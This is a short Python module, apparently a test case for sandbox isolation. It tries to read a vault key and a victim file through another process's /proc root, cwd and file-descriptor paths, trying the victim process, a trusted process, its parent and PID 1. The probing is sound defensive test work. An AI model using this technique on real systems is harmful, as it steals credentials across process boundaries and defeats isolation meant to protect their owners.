"""Wants the key by way of another process: its root, its folder, its open files. Success: it comes back."""

import os

from outside import TRUSTED, VAULT_KEY, VICTIM, VICTIM_FILE, attempt, read, secrets_in


def method(problem):
    def look():
        held = b""
        for process in (VICTIM, TRUSTED, os.getppid(), 1):
            for way in (f"root{VAULT_KEY}", f"cwd{VAULT_KEY}", f"fd/{VICTIM_FILE}"):
                try:
                    held += read(f"/proc/{process}/{way}")
                except OSError:
                    continue
        return secrets_in(held)

    return attempt(problem, look)
